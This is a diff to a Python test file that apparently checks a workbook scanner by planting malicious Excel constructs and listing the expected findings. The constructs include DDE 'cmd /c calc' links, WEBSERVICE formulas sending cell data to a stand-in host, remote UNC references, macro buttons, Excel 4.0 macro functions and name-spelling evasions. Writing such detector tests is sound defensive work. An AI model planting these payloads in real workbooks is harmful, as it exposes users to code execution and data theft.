@@ -27,6 +27,10 @@ MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
 MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
 PROJECT = "xl/vbaProject.bin"
 BOOK, INPUTS = "xl/workbook.xml", "xl/worksheets/sheet2.xml"
+VML, CHART = "xl/drawings/vmlDrawing1.vml", "xl/charts/chart99.xml"
+LINK = "xl/externalLinks/externalLink1.xml"
+#: A cell of a file on another machine.
+AWAY = r"'\\server\share\[x.xlsx]S'!A1"
 #: A cell outside of all that is built.
 FREE: tuple[str, Place] = ("DCF", (3, 90))
 
@@ -142,6 +146,22 @@ def linked(target: str, kind: str = "externalLinkPath", book: str = "") -> Chang
     return both(there, relate(part, kind, target, external=True)) if target else there
 
 
+def spelled(target: str, part: str, content: str, source: str, kind: str) -> Change:
+    """Add a part, and a relationship that spells its name in another way."""
+    return both(add(part, content), relate(source, kind, target))
+
+
+def within(xml: str) -> Change:
+    """Put elements into a sheet, in front of its margins."""
+    return put("xl/worksheets/sheet7.xml", "<pageMargins", f"{xml}<pageMargins")
+
+
+def old_drawing(inside: str, part: str = VML, encoding: str = "utf-8") -> Change:
+    """Add a drawing of the old kind, which is sound XML."""
+    names = 'xmlns:v="urn:v" xmlns:x="urn:x" xmlns:y="urn:y"'
+    return add(part, f"<xml {names}>{inside}</xml>".encode(encoding), INPUTS, "vmlDrawing")
+
+
 def hyperlink(target: str, sheet: str = "xl/worksheets/sheet7.xml") -> Change:
     link = '<hyperlinks><hyperlink ref="B2" r:id="trap" xmlns:r="' + OFFICE + '"/></hyperlinks>'
     return both(
@@ -168,6 +188,14 @@ ENTRY = (
 )
 EXTENSION = '<extLst><ext uri="x" xmlns:xm="z"><xm:f>{}</xm:f></ext></extLst></worksheet>'
 RIBBON = '<customUI xmlns="x" onLoad="Evil.Loaded"><ribbon/></customUI>'
+DDE = f'<externalLink {MAIN}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+CONNECTION = (
+    f'<connections {MAIN}><connection id="1" name="Rates"><webPr url="http://x.org"/></connection>'
+    "</connections>"
+)
+BUTTON, PICTURE = "<x:FmlaMacro>[0]!Evil</x:FmlaMacro>", '<v:imagedata src="{}"/>'
+STARTS = "has a shape or a button that starts the macro [0]!Evil"
+OUTSIDE = "refers to {}, outside of the file"
 SHEETS = "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>", BOOK, f"{MICROSOFT}/xlMacrosheet"
 LINE = "Sub Workbook_Open()\r\n"
 
@@ -238,6 +266,16 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     "a sheet of Python": (
         put(BOOK, 'name="Equity"', 'name="evil.py"'),
         ["evil.py!A1: the sheet's name ends with .py, so that xlwings may run it as Python code"],
+    ),
+    "a sheet of Python with a space": (
+        put(BOOK, 'name="Equity"', 'name="evil.py "'),
+        ["evil.py !A1: the sheet's name ends with .py, so that xlwings may run it as Python code"],
+    ),
+    "settings with a space": (
+        both(setting("Debug UDFs", "True"), put(BOOK, f'name="{SHEET}"', f'name="{SHEET} "')),
+        ["xl/vbaProject.bin: has no sheet xlwings.conf next to it, so that xlwings takes its "
+         "settings from the file xlwings.conf in the workbook's folder",
+         "xlwings.conf !B3: Debug UDFs is 'True', a setting that Offtake does not write"],
     ),
     # The VBA project.
     "another line of VBA": (
@@ -420,7 +458,151 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     "a link that runs a program": (
         hyperlink("ms-msdt:/id"), ["DCF!B2: has a link to ms-msdt:/id"]
     ),
+    # Other spellings of a part's name (ECMA-376 part 2, 6.2.2).
+    **{
+        f"DDE, as {target}": (
+            spelled(target, LINK, DDE, BOOK, "externalLink"),
+            [f"{LINK}: starts the program cmd, for /c calc (DDE)"],
+        )
+        for target in (
+            *("ExternalLinks/externalLink1.xml", "externalLinks/externalLink%31.xml"),
+            *(r"externalLinks\externalLink1.xml", "./externalLinks//externalLink1.xml#x"),
+        )
+    },
+    "a connection in capitals": (
+        spelled("CONNECTIONS.XML", "xl/connections.xml", CONNECTION, BOOK, "connections"),
+        ["xl/connections.xml: has the connection Rates, which fetches data: http://x.org"],
+    ),
+    "a part that is not there": (
+        relate(BOOK, "externalLink", "externalLinks/externalLink1.xml?x"),
+        ["xl/_rels/workbook.xml.rels: leads to xl/externalLinks/externalLink1.xml?x, which is no "
+         "part of the file"],
+    ),
+    "a base of all links, in capitals": (
+        both(lambda package: Package({
+                 "docProps/App.xml" if part == "docProps/app.xml" else part: content
+                 for part, content in package.parts.items()}),
+             put("docProps/App.xml", "</Properties>",
+                 "<HyperlinkBase>//server</HyperlinkBase></Properties>")),
+        ["docProps/App.xml: has an address that links begin with: //server"],
+    ),
+    # Old drawings.
+    **{
+        f"a button, {how}": (change, [f"{part}: {STARTS}"])
+        for how, part, change in (
+            ("a space", VML, old_drawing("<x:FmlaMacro >[0]!Evil</x:FmlaMacro >")),
+            ("an attribute", VML, old_drawing('<x:FmlaMacro y:a="">[0]!Evil</x:FmlaMacro>')),
+            ("CDATA", VML, old_drawing("<x:FmlaMacro><![CDATA[[0]!Evil]]></x:FmlaMacro>")),
+            ("UTF-16", VML, old_drawing(BUTTON, encoding="utf-16")),
+            ("another name", "xl/drawings/vmlDrawing1.xml",
+             old_drawing(BUTTON, "xl/drawings/vmlDrawing1.xml")),
+            ("a chart's name", CHART, old_drawing(BUTTON, CHART)),
+            ("a shape in a chart's part", CHART,
+             add(CHART, '<x:wsDr xmlns:x="x"><x:sp macro="[0]!Evil"/></x:wsDr>', INPUTS,
+                 "drawing")),
+            ("a control's part", "xl/ctrlProps/ctrlProp1.xml",
+             add("xl/ctrlProps/ctrlProp1.xml", '<wsDr><sp macro="[0]!Evil"/></wsDr>', INPUTS,
+                 "drawing")),
+        )
+    },
+    **{
+        f"a picture, as {src}": (
+            old_drawing(PICTURE.format(src)), [f"{VML}: {OUTSIDE.format(address)}"])
+        for src, address in (
+            ("&#104;ttp://x.org/a.png", "http://x.org/a.png"),
+            (r"&#92;&#92;server\a.png", r"\\server\a.png"),
+            (" http://x.org/a.png", "http://x.org/a.png"),
+        )
+    },
+    "a picture, not sound XML": (
+        add(VML, '<xml><br><v:imagedata alt="a>b" src = "&#104;ttp://x.org/a.png"/></xml>', INPUTS,
+            "vmlDrawing"),
+        [f"{VML}: {OUTSIDE.format('http://x.org/a.png')}"],
+    ),
+    "a program in a control": (
+        old_drawing("<x:FmlaPict>cmd|'/c calc'!A1</x:FmlaPict>"),
+        [f"{VML}: the element x:FmlaPict starts another program: =cmd|'/c calc'!A1"],
+    ),
+    "a file in a control": (
+        old_drawing(f"<x:FmlaRange>{AWAY}</x:FmlaRange>"),
+        [f"{VML}: the element x:FmlaRange refers to the file x.xlsx: ={AWAY}"],
+    ),
+    # Formulas around the cells.
+    **{
+        f"formula in {where}": (change, [f"{part}: the element {said}"])
+        for where, part, change, said in (
+            ("a bar", "xl/worksheets/sheet7.xml",
+             within('<conditionalFormatting sqref="A1"><cfRule type="dataBar"><dataBar><cfvo '
+                    'type="formula" val="WEBSERVICE(A1)"/></dataBar></cfRule>'
+                    "</conditionalFormatting>"),
+             "cfvo of the sheet DCF calls WEBSERVICE: =WEBSERVICE(A1)"),
+            ("a newer rule", "xl/worksheets/sheet7.xml",
+             within('<extLst xmlns:q="q"><q:f>WEBSERVICE(A1)</q:f></extLst>'),
+             "q:f of the sheet DCF calls WEBSERVICE: =WEBSERVICE(A1)"),
+            ("an object", "xl/worksheets/sheet7.xml",
+             within("""<oleObjects><oleObject link="cmd|'/c calc'!A1"/></oleObjects>"""),
+             "oleObject of the sheet DCF starts another program: =cmd|'/c calc'!A1"),
+            ("a consolidation", "xl/worksheets/sheet7.xml",
+             within(r'<dataConsolidate><dataRefs><dataRef ref="A1" sheet="\\server\[x.xlsx]S"/>'
+                    "</dataRefs></dataConsolidate>"),
+             "dataRef of the sheet DCF refers to the file x.xlsx"),
+            ("a link", "xl/worksheets/sheet7.xml",
+             within(f'<hyperlinks><hyperlink ref="A1" location="{AWAY}"/></hyperlinks>'),
+             f"hyperlink of the sheet DCF leads to {AWAY}"),
+            ("a chart", CHART,
+             add(CHART, f'<c:chart xmlns:c="c"><c:f>{AWAY}</c:f></c:chart>', INPUTS, "chart"),
+             f"c:f refers to the file x.xlsx: ={AWAY}"),
+            ("a shape", CHART,
+             add(CHART, '<sp textlink="WEBSERVICE(A1)"/>', INPUTS, "drawing"),
+             "sp calls WEBSERVICE: =WEBSERVICE(A1)"),
+            ("a pivot table", "xl/pivotCache/pivotCacheDefinition1.xml",
+             add("xl/pivotCache/pivotCacheDefinition1.xml",
+                 r'<x><worksheetSource ref="A1" sheet="\\server\[x.xlsx]S"/></x>', BOOK,
+                 "pivotCacheDefinition"),
+             "worksheetSource refers to the file x.xlsx"),
+            *((f"a table's {kind}", "xl/tables/table99.xml",
+               add("xl/tables/table99.xml", f"<t><{kind}>WEBSERVICE(A1)</{kind}></t>", INPUTS,
+                   "table"),
+               f"{kind} calls WEBSERVICE: =WEBSERVICE(A1)")
+              for kind in ("calculatedColumnFormula", "totalsRowFormula")),
+        )
+    },
+    # Addresses around the cells.
+    "a page that is published": (
+        within(r'<webPublishItems><webPublishItem destinationFile="\\server\x.htm"/>'
+               "</webPublishItems>"),
+        [f"xl/worksheets/sheet7.xml: {OUTSIDE.format(chr(92) * 2 + 'server' + chr(92) + 'x.htm')}"],
+    ),
+    "pages that are published": (
+        put(BOOK, "</workbook>", '<webPublishObjects><webPublishObject destinationFile="//server/x"'
+            "/></webPublishObjects></workbook>"),
+        [f"{BOOK}: {OUTSIDE.format('//server/x')}"],
+    ),
+    "maps of XML": (
+        add("xl/xmlMaps.xml", '<MapInfo><Schema SchemaRef="//server/x.xsd"/><Map><DataBinding '
+            'FileBindingName="http://x.org/x.xml"/></Map></MapInfo>', BOOK, "xmlMaps"),
+        [f"xl/xmlMaps.xml: {OUTSIDE.format(each)}"
+         for each in ("//server/x.xsd", "http://x.org/x.xml")],
+    ),
     # Formulas.
+    **{
+        f"the formula {formula}": (cell(f"={formula}"), [f"DCF!CL3: {said}: ={formula}"])
+        for formula, said in (
+            (r'HYPERLINK("#[\\server\x.xlsm]S!A1","x")',
+             r"has a link that leads to #[\\server\x.xlsm]S!A1"),
+            ('HYPERLINK("#"&"file://server/x")',
+             "has a link that leads to an address that is calculated"),
+            (f'INDIRECT("{AWAY}")', f"refers to {AWAY}"),
+            ("IF(A1,GET.CELL(5,A1))",
+             "calls GET.CELL, which is no function of Excel's cells or Offtake's"),
+        )
+    },
+    "a link by way of a part of a cell": (
+        lambda package: changed(package, {
+            FREE: '=HYPERLINK("#"&CM3)', (FREE[0], (3, 91)): r"[\\server\x.xlsm]S!A1"}),
+        ["DCF!CL3: has a link that leads to an address that is calculated: "
+         '=HYPERLINK("#"&CM3)'],
+    ),
     "WEBSERVICE": (
         cell('=_xlfn.WEBSERVICE("http://x.org/?"&Inputs!D9)'),
         ['DCF!CL3: calls WEBSERVICE: =_xlfn.WEBSERVICE("http://x.org/?"&Inputs!D9)'],
@@ -450,15 +632,17 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     ),
     "a rule": (
         put("xl/worksheets/sheet7.xml", "<pageMargins", RULE.format('RTD("x",,"y")')),
-        ['xl/worksheets/sheet7.xml: a rule of the sheet DCF calls RTD: =RTD("x",,"y")'],
+        ["xl/worksheets/sheet7.xml: the element formula of the sheet DCF calls RTD: "
+         '=RTD("x",,"y")'],
     ),
     "permitted entries": (
         put("xl/worksheets/sheet7.xml", "<pageMargins", ENTRY.format("call(1)")),
-        ["xl/worksheets/sheet7.xml: a rule of the sheet DCF calls CALL: =call(1)"],
+        ["xl/worksheets/sheet7.xml: the element formula1 of the sheet DCF calls CALL: =call(1)"],
     ),
     "a newer rule": (
         put("xl/worksheets/sheet7.xml", "</worksheet>", EXTENSION.format("_xlfn.IMAGE(A1)")),
-        ["xl/worksheets/sheet7.xml: a rule of the sheet DCF calls IMAGE: =_xlfn.IMAGE(A1)"],
+        ["xl/worksheets/sheet7.xml: the element xm:f of the sheet DCF calls IMAGE: "
+         "=_xlfn.IMAGE(A1)"],
     ),
     "a name": (
         name("Rate", 'EXEC("calc.exe")'),
@@ -478,6 +662,22 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
         name("Evil", "#N/A", 'vbProcedure="1"'),
         ["xl/workbook.xml: the name Evil is that of a macro: =#N/A"],
     ),
+    "a name marked as a macro": (
+        name("Evil", "DCF!$A$1", 'macro="1"'),
+        ["xl/workbook.xml: the name Evil is that of a macro: =DCF!$A$1"],
+    ),
+    # Functions of the macro language (Excel 4.0 Macro Functions Reference).
+    **{
+        f"a name with {function}": (
+            name("Rate", f'{function}("x")'),
+            [f"xl/workbook.xml: the name Rate calls {function}, which is no function of Excel's "
+             f'cells or Offtake\'s: ={function}("x")'],
+        )
+        for function in (
+            *("APP.ACTIVATE", "CREATE.OBJECT", "DOCUMENTS", "FILE.DELETE", "FPOS", "FSIZE"),
+            *("GET.CELL", "LINKS", "ON.TIME", "OPEN", "RUN", "SAVE.AS", "SEND.KEYS", "SEND.MAIL"),
+        )
+    },
     # Parts.
     "a program": (
         add("xl/payload.exe", b"MZ"),
